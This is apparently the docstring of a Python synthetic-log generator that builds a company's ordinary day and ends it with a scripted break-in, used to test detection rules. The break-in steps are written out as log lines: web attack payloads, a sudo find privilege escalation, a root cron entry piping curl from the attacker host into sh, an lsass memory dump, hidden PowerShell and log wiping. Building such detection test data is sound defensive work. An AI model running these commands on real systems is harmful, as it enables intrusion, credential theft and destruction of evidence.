r"""A believable day of a small company, with a break-in in its last hour, made from a seed.

``day.generate`` is pure; ``sending.send`` takes its messages through the real collectors. Another
seed gives other people, machines and addresses; nothing else in the product knows any of them,
so rules must match by behaviour. Attackers come from 198.51.100.0/24 and 203.0.113.0/24
(RFC 5737), visitors from 198.18.0.0/15 (RFC 2544), the company's outside is in 192.0.2.0/24.

**The ordinary day** (about 45,000 log lines): nginx access logs of two web servers with crawlers
and the odd 404; ssh logins with keys and a few mistyped passwords (at most 3 in a row); sudo of
administrators (apt-get, systemctl, journalctl); cron; auditd records of executed commands; a
FortiGate whose policy denies the internet's usual noise (a port or two an address); Windows
logons, processes (Sysmon 1 and 4688), connections (Sysmon 3), DNS (Sysmon 22), Kerberos; page
views and clicks; node_exporter-like samples every five minutes.

**The break-in**, minutes before the end, as the devices write it (``A`` scans, ``B`` logs in,
``V`` is an employee, ``N`` the account left behind, ``W`` a Windows server):

1. -58 to -52, *reconnaissance of the web server* (nginx, syslog TCP): some 260 requests by A for
   ``/.env``, ``/.git/config``, ``/wp-login.php``, ``/phpmyadmin/``, ``/server-status``,
   ``/backup.sql`` …, nearly all 404 or 403, the first three by ``gobuster/3.6``, the others under
   a browser's name; then traversal (``/download?file=../../../../etc/passwd``), SQL injection
   (``/search?q=1%27%20UNION%20SELECT…``, agent ``sqlmap/1.8.4#stable (https://sqlmap.org)``) and
   cross-site scripting (``/search?q=%3Cscript%3Ealert(1)%3C/script%3E``).
2. -50 to -49, *port scan* (FortiGate, syslog UDP): 180 lines ``type="traffic" … action="deny"``
   with one ``srcip`` (A), one ``dstip`` and 180 different ``dstport`` within 40 seconds.
3. -42 to -37, *ssh brute force* (sshd on the bastion): about 170 times ``Failed password for
   [invalid user ]NAME from B port P ssh2``, with ``Invalid user NAME from B port P`` and
   ``pam_unix(sshd:auth): authentication failure; … rhost=B`` between them.
4. -36, *the brute force succeeds*: ``Accepted password for V from B port P ssh2``, then
   ``pam_unix(sshd:session): session opened for user V(uid=…) by (uid=0)``.
5. -35 to -33, *looking around* (auditd on the bastion, ``type=EXECVE``): ``whoami``, ``id``,
   ``uname -a``, ``cat /etc/passwd``, ``getcap -r /``, ``find / -perm -4000 -type f``;
   ``type=SYSCALL`` records of the same with ``key="exec"``.
6. -32, *privilege escalation* (sudo on the bastion): refused first (``V : command not allowed ;
   TTY=pts/N ; PWD=/home/V ; USER=root ; COMMAND=/bin/bash``), then let (``V : TTY=pts/N ; PWD=…
   ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/bash -p ; -quit``);
   ``pam_unix(sudo:session): session opened for user root(uid=0) by V(uid=…)``; auditd ``EXECVE
   a0="/bin/bash" a1="-p"`` and ``cat /etc/shadow`` with ``auid`` V and ``uid=0``.
7. -30, *persistence*: useradd ``new user: name=N, UID=…``, usermod ``add 'N' to group 'sudo'``
   and ``add 'N' to shadow group 'sudo'``, passwd ``pam_unix(passwd:chauthtok): password changed
   for N``; crontab ``(root) REPLACE (root)``; CRON ``(root) CMD (curl -fsSL http://B/… | sh)``;
   auditd ``type=PATH … name="/root/.ssh/authorized_keys" … nametype=CREATE``, ``EXECVE a0="chattr"
   a1="+i"``; a new unit is enabled (``systemctl enable``).
8. -26 to -22, *on to Windows* (NDJSON, Security and Sysmon on W): eight 4625 for an administrator
   from the bastion, then 4624 (LogonType 3) and 4672; Sysmon 1 and 4688: ``whoami /all``, ``net
   user /domain``, ``powershell.exe -nop -w hidden -enc …``, ``rundll32.exe
   C:\Windows\System32\comsvcs.dll, MiniDump …`` with Sysmon 10 on lsass.exe; 4720 creates N, 4732
   adds it to Administrators; 7045 and 4697 install a service (``ImagePath``
   ``C:\Windows\Temp\N.exe``); 4698 creates a task that runs a hidden script.
9. -20 to -17, *data leaves* (FortiGate): ``action="accept"`` to B, port 443, ``sentbyte`` of
   hundreds of megabytes, five times.
10. -14 to -12, *traces are wiped*: auditd on the bastion ``SYSCALL … exe="/usr/bin/truncate"
    key="logs"``, ``EXECVE a0="truncate" a1="-s" a2="0" a3="/var/log/auth.log"``, ``PATH
    name="/var/log/auth.log"``, ``EXECVE a0="rm" a1="-f" a2="/root/.bash_history"``, ``type=EXECVE
    a0="systemctl" a1="stop" a2="auditd"``, ``type=DAEMON_END``; Windows ``wevtutil cl Security``
    (Sysmon 1 and 4688), Security 1102, System 104.
11. -11, *gone*: ``Disconnected from user V B port P``, ``session closed for user V``.
"""
